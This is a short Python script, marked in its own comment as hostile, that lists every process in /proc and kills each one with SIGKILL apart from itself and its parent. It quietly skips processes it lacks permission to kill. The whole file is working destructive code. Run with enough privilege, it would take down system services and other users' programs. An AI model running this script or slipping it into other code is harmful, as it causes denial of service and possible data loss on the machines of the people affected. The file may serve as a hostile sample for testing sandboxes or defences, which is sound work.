# hostile: every other process signalled in a loop
import os
import signal

for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), os.getppid()):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except (PermissionError, ProcessLookupError):
            pass
